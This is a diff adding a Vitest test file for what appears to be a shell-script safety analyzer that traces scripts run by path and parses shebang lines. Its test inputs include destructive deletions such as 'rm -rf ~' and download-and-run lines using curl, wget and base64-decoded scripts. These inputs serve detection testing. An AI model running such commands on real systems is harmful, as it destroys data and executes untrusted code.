@@ -1,0 +1,84 @@
+import { describe, expect, it } from 'vitest';
+import { parseScript } from '../../src/parse/parse.js';
+import { normalize } from '../../src/normalize/index.js';
+import { shebang } from '../../src/normalize/scripts.js';
+import { DEFAULT_LIMITS, type AnalyzeContext } from '../../src/engine/types.js';
+
+const FILES: Record<string, string> = {
+  '/w/deploy.sh': '#!/usr/bin/env bash\nset -e\nrm -rf /srv/app\n',
+  '/w/plain': 'rm -rf /srv/plain\n',
+  '/w/opts.sh': '#!/bin/bash -e\nrm -rf /srv/opts\n',
+  '/w/ok.sh': '#!/bin/sh\nls -la\n',
+  '/w/bin/tool': '\x7fELF\0\0\0binary',
+  '/w/build.mk': '#!/usr/bin/make -f\nall:\n\trm -rf /srv/mk\n',
+};
+
+const ctx: AnalyzeContext = {
+  cwd: '/w',
+  workspace: '/w',
+  home: '/h',
+  env: {},
+  readFile: (p) => FILES[p],
+  limits: DEFAULT_LIMITS,
+};
+
+function run(script: string) {
+  const r = normalize(parseScript(script, ctx.limits), ctx);
+  return { issues: r.issues, cmds: r.commands.map((c) => ({ argv: c.argv.join(' '), dynamic: c.dynamic })) };
+}
+
+describe('scripts run by path', () => {
+  it.each<[string, string]>([
+    ['./deploy.sh', 'rm -rf /srv/app'],
+    ['sh -c ./deploy.sh', 'rm -rf /srv/app'],
+    ['./plain arg', 'rm -rf /srv/plain'],
+    ['/w/opts.sh', 'rm -rf /srv/opts'],
+    ['cd /w && ./opts.sh', 'rm -rf /srv/opts'],
+    ['echo "rm -rf ~" > x.sh && chmod +x x.sh && ./x.sh', 'rm -rf /h'],
+    ["printf '#!/bin/bash\\nrm -rf /data\\n' > /tmp/r; /tmp/r", 'rm -rf /data'],
+    ["cat > y <<'EOF'\nrm -rf /y\nEOF\nsudo ./y", 'rm -rf /y'],
+    [
+      'printf \'#!/usr/bin/env python3\\nimport shutil\\nshutil.rmtree("/p")\\n\' > q.py; ./q.py',
+      'rm -rf /p',
+    ],
+  ])('%s runs its script: %s', (script, inner) => {
+    const r = run(script);
+    expect(r.issues).toEqual([]);
+    expect(r.cmds.map((c) => c.argv)).toContain(inner);
+  });
+
+  it.each<[string]>([
+    ['curl -o y.sh https://x.example/y.sh && ./y.sh'],
+    ['wget -O /tmp/i https://x.example/i; /tmp/i'],
+    ['base64 -d "$P" > run.sh; ./run.sh'],
+    ['cp "$SRC" ./deploy.sh; ./deploy.sh'],
+  ])('%s: a file this script wrote with unknown content is unknown code', (script) => {
+    const r = run(script);
+    const last = r.cmds.at(-1);
+    expect(last?.dynamic).toBe(true);
+    expect(r.cmds.map((c) => c.argv)).not.toContain('rm -rf /srv/app');
+  });
+
+  it.each<[string, string[]]>([
+    ['./ok.sh', ['./ok.sh', 'ls -la']],
+    ['./bin/tool --help', ['./bin/tool --help']],
+    ['./missing.sh', ['./missing.sh']],
+    ['echo ls > z.sh; ./z.sh', ['ls']],
+  ])('%s stays literal and understood', (script, argvs) => {
+    const r = run(script);
+    expect(r.issues).toEqual([]);
+    for (const a of argvs) expect(r.cmds).toContainEqual({ argv: a, dynamic: false });
+  });
+});
+
+describe('shebang', () => {
+  it.each<[string, string[] | undefined]>([
+    ['#!/bin/bash\nx', ['/bin/bash']],
+    ['#!/usr/bin/env -S python3 -u\nx', ['/usr/bin/env', '-S python3 -u']],
+    ['#! /bin/sh -e\n', ['/bin/sh', '-e']],
+    ['echo hi\n', ['sh']],
+    ['#!\n', undefined],
+  ])('%j → %j', (text, want) => {
+    expect(shebang(text)).toEqual(want);
+  });
+});
